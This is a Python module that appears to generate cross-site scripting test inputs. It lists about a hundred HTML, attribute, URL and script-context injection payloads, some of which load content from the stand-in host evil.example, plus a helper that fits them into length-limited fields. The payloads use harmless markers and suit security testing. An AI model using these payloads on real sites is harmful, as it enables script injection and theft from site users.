"""A hundred ways to smuggle a program into a page, each of which says that it got there.

What becomes an element carries the attribute ``x12``; what runs opens a dialog; what asks
outside asks ``evil.example``. Each is told from the next by nothing else, so that the one that
comes out first is seen whatever stands behind it.
"""

from __future__ import annotations

EVIL = "evil.example"
# Out of where a text may stand: words, attributes, fields, titles, scripts, styles, comments.
OUT_OF = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</select>",
)  # fmt: skip
ELEMENTS = (
    "<script x12>alert(1)</script>",
    "<img x12 src=x onerror=alert(1)>",
    "<svg x12 onload=alert(1)>",
)
ATTRIBUTES = (
    '" x12 autofocus onfocus=alert(1) x="',
    "' x12 autofocus onfocus=alert(1) x='",
    " x12 autofocus onfocus=alert(1) ",
    '" x12 style="background:url(//evil.example/a)" x="',
    '" x12 hx-get="//evil.example/a" hx-trigger="load" x="',
    "' x12 hx-on::load='alert(1)' x='",
    '" x12 hx-on:click="alert(1)" x="',
    '" x12 formaction="javascript:alert(1)" x="',
    '" x12 href="javascript:alert(1)" x="',
    '` x12 onerror="alert(1)"',
)
ADDRESSES = (
    "javascript:alert(1)//x12",
    "JaVaScRiPt:alert(1)//x12",
    " javascript:alert(1)//x12",
    "java\tscript:alert(1)//x12",
    "javascript://evil.example/%0aalert(1)//x12",
    "vbscript:msgbox(1)//x12",
    "data:text/html,<script x12>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x12",
    "https://evil.example/x12",
)
SCRIPTS = (
    "';alert(1)//x12",
    '";alert(1)//x12',
    "\\';alert(1)//x12",
    '\\";alert(1)//x12',
    "${alert(1)}x12",
    "`;alert(1)//x12",
    "\u2028alert(1)//x12",
    "*/alert(1)/*x12",
    "'-alert(1)-'x12",
    '"-alert(1)-"x12',
)
OTHERS = (
    "<details x12 open ontoggle=alert(1)>",
    "<input x12 autofocus onfocus=alert(1)>",
    "<video x12><source onerror=alert(1)></video>",
    "<audio x12 src onerror=alert(1)>",
    "<body x12 onload=alert(1)>",
    "<iframe x12 src=javascript:alert(1)></iframe>",
    '<iframe x12 srcdoc="<script>alert(1)</script>"></iframe>',
    "<object x12 data=//evil.example/a></object>",
    "<embed x12 src=//evil.example/a>",
    "<base x12 href=//evil.example/>",
    "<link x12 rel=stylesheet href=//evil.example/a.css>",
    "<link x12 rel=dns-prefetch href=//evil.example/>",
    "<style x12>@import '//evil.example/a.css';</style>",
    "<meta x12 http-equiv=refresh content='0;url=//evil.example/'>",
    "<form x12 action=//evil.example/><button>Send</button></form>",
    "<a x12 href=javascript:alert(1)>open</a>",
    "<a x12 href='java&#9;script:alert(1)'>open</a>",
    "<a x12 href='&#106;avascript:alert(1)'>open</a>",
    "<a x12 href=# ping=//evil.example/>open</a>",
    "<img x12 srcset=//evil.example/a>",
    "<img/x12/src=x/onerror=alert(1)>",
    "<ScRiPt x12>alert(1)</sCrIpT>",
    "<script x12 type=module src=//evil.example/a.js></script>",
    "<script x12 src=data:,alert(1)></script>",
    "<svg><animate x12 onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a x12 xlink:href=javascript:alert(1)><text>open</text></a></svg>",
    "<math><a x12 href=javascript:alert(1)>open</a></math>",
    "<template x12 shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<svg></p><style><a id='</style><img x12 src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img x12 src=1 onerror=alert(1)>'>",
    "<!--><script x12>alert(1)</script>-->",
    "<![CDATA[><script x12>alert(1)</script>]]>",
    "<div x12 hx-get=//evil.example/a hx-trigger=load>",
    "<marquee x12 onstart=alert(1)>",
    "&lt;img x12 src=x onerror=alert(1)&gt;",
    "&#x3c;script x12&#x3e;alert(1)&#x3c;/script&#x3e;",
    "%3Cscript x12%3Ealert(1)%3C/script%3E",
    "\\u003cscript x12\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript x12\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script x12+AD4-alert(1)+ADw-/script+AD4-",
)
PAYLOADS = (
    *(out + element for out in OUT_OF for element in ELEMENTS),
    *ATTRIBUTES,
    *ADDRESSES,
    *SCRIPTS,
    *OTHERS,
)
# Out of words, attributes in either quote, and fields, in little room.
SHORT = "'\"><b x12>"


def lot(number: int, room: int | None = None) -> str:
    """What goes into one text: the short one, and as many from this number on as there is room.

    Where there is room for all of them, all of them; otherwise those that follow the number.
    """
    words = SHORT
    for payload in (*PAYLOADS[number % 100 :], *PAYLOADS[: number % 100]):
        if room is not None and len(words) + len(payload) + 1 > room:
            break
        words += f" {payload}"
    return words if room is None or len(words) <= room else ""
